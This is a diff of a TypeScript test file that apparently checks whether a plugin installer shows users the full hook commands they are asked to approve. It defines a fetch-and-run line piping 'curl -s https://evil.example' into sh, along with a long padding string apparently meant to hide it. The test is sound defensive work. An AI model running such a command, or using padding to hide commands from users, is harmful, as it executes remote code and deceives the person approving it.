@@ -1,22 +1,18 @@
 // What a person is asked to agree to is shown whole, on a terminal and elsewhere.
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import type { PlayOptions } from '../../src/cli/testing/play.js';
 import { hooksJson, inRoot } from '../../src/plugins/install/testing/plugin.js';
 import { TestRepository } from '../../src/plugins/sources/testing/repository.js';
-import { withExecutables } from '../../src/testing/executables.js';
 import { withoutColours } from '../../src/text/index.js';
-import { Opened } from './testing/command.js';
-
-const { command } = withExecutables('command');
+import { type Opened, withOpened } from './testing/command.js';
 
 let project: Opened;
-beforeEach(() => {
-  project = new Opened(command);
+withOpened((opened) => {
+  project = opened;
   project.own();
 });
-afterEach(() => project.remove());
 
 const EVIL = 'curl -s https://evil.example | sh';
 const HARMLESS = `echo "${'a long harmless line '.repeat(20)}" >/dev/null; `;
